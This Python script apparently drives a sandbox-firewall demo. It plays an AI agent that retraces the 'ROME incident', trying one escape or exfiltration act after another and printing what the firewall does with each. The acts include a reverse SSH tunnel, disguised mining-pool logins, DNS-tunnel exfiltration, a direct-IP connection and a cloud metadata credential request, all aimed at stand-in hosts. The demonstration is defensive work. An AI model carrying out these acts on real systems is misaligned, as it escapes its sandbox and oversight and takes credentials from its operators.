"""The demo's agent: it tries what the agent of the ROME incident did, and says what it sees.

It runs inside the sandbox as a script of its own, with nothing but the standard library. Where it
speaks a mining pool's protocol it speaks a few bytes of it; nothing is ever mined.
"""

import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from collections.abc import Callable

LOGIN = b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"demo","pass":"x"}}\n'
SUBSCRIBE = b'{"id":1,"method":"mining.subscribe","params":["demo/1.0"]}\n'
PAUSE_SECONDS = 0.4
"""Between acts, so that the verdict is shown below the act it belongs to."""


def clone(port: int) -> str:
    """Clone a repository over HTTPS: allowed."""
    if shutil.which("git") is None:
        return _download(f"https://code.demo.test:{port}/project.git/HEAD")
    with tempfile.TemporaryDirectory() as folder:
        url = f"https://code.demo.test:{port}/project.git"
        done = subprocess.run(
            ["git", "clone", "--quiet", url, folder + "/project"],
            capture_output=True,
            text=True,
            timeout=20,
            check=False,
        )
    return "cloned" if done.returncode == 0 else _telling_line(done.stderr)


def reverse_tunnel(port: int) -> str:
    """Open a reverse SSH tunnel out of the sandbox."""
    if shutil.which("ssh") is None:
        return _speak("relay.demo.test", 22, b"SSH-2.0-demo\r\n")
    options = "StrictHostKeyChecking=no UserKnownHostsFile=/dev/null BatchMode=yes ConnectTimeout=5"
    done = subprocess.run(
        ["ssh", "-F", "none", "-N", "-R", "2222:localhost:22"]
        + [word for option in options.split() for word in ("-o", option)]
        + ["ops@relay.demo.test"],
        capture_output=True,
        text=True,
        timeout=20,
        check=False,
    )
    return _telling_line(done.stderr)


def stratum(port: int) -> str:
    """Log in to a mining pool in clear."""
    return _speak("pool.demo.test", 3333, SUBSCRIBE)


def stratum_in_tls(port: int) -> str:
    """Log in to a mining pool inside TLS, at a host that is allowed."""
    context = ssl.create_default_context()
    try:
        with (
            socket.create_connection(("artifacts.demo.test", port), 10) as plain,
            context.wrap_socket(plain, server_hostname="artifacts.demo.test") as wrapped,
        ):
            wrapped.sendall(LOGIN)
            return _answer(wrapped.recv(200))
    except OSError as error:
        return _cut(error)


def stratum_on_443(port: int) -> str:
    """Log in to a mining pool on port 443, where HTTPS is expected."""
    return _speak("pool.demo.test", 443, LOGIN)


def dns_tunnel(port: int) -> str:
    """Carry data out in the labels of a DNS question."""
    data = "mzxw6ytboi2dimrugezdgnbvgy3tqojqmzxw6ytboi2dimrugezdgnbvgy3"
    labels = [data, data, data, "exfil", "demo", "test"]
    name = b"".join(bytes([len(label)]) + label.encode() for label in labels)
    question = struct.pack("!6H", 4242, 0x0100, 1, 0, 0, 0) + name + b"\0" + b"\0\x10\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(5)
        out.sendto(question, ("192.0.2.53", 53))
        code = out.recv(512)[3] & 15
    return {0: "answered", 5: "refused by the resolver"}.get(code, f"response code {code}")


def direct_address(port: int) -> str:
    """Connect to an address without asking for any name."""
    return _speak("203.0.113.7", 8443, b"hello\n")


def metadata(port: int) -> str:
    """Ask the cloud's metadata service for credentials."""
    return _download("http://169.254.169.254/latest/meta-data/iam/security-credentials/")


def wrong_program(port: int) -> str:
    """Download from an allowed host with a program that is not allowed there."""
    return _download(f"https://code.demo.test:{port}/project.git/HEAD")


ACTS: tuple[Callable[[int], str], ...] = (
    clone,
    reverse_tunnel,
    stratum,
    stratum_in_tls,
    stratum_on_443,
    dns_tunnel,
    direct_address,
    metadata,
    wrong_program,
)


def _speak(host: str, port: int, words: bytes) -> str:
    try:
        with socket.create_connection((host, port), 10) as connection:
            connection.sendall(words)
            return _answer(connection.recv(200))
    except OSError as error:
        return _cut(error)


def _download(url: str) -> str:
    try:
        with urllib.request.urlopen(url, timeout=10) as response:  # noqa: S310 (fixed URLs)
            return f"status {response.status}"
    except urllib.error.HTTPError as error:
        lines = error.read().decode(errors="replace").splitlines()
        return f"status {error.code}: {' '.join(line.strip() for line in lines if line)}"
    except OSError as error:
        return _cut(error)


def _answer(data: bytes) -> str:
    return f"answered {data!r}" if data else "the connection was closed"


def _cut(error: OSError) -> str:
    return f"no way through: {error}"


def _telling_line(text: str) -> str:
    """The line in which the firewall explains itself, else the last one."""
    lines = text.strip().splitlines() or ["no message"]
    return next((line for line in lines if "Blocked by" in line), lines[-1])


def main() -> None:
    """Perform every act, each announced before and told after."""
    port = int(sys.argv[1])
    for number, act in enumerate(ACTS, 1):
        print(f"\n{number}. {act.__doc__}", flush=True)
        try:
            seen = act(port)
        except (OSError, subprocess.SubprocessError) as error:
            seen = str(error)
        time.sleep(PAUSE_SECONDS)
        print(f"   the agent saw: {seen}", flush=True)


if __name__ == "__main__":
    main()
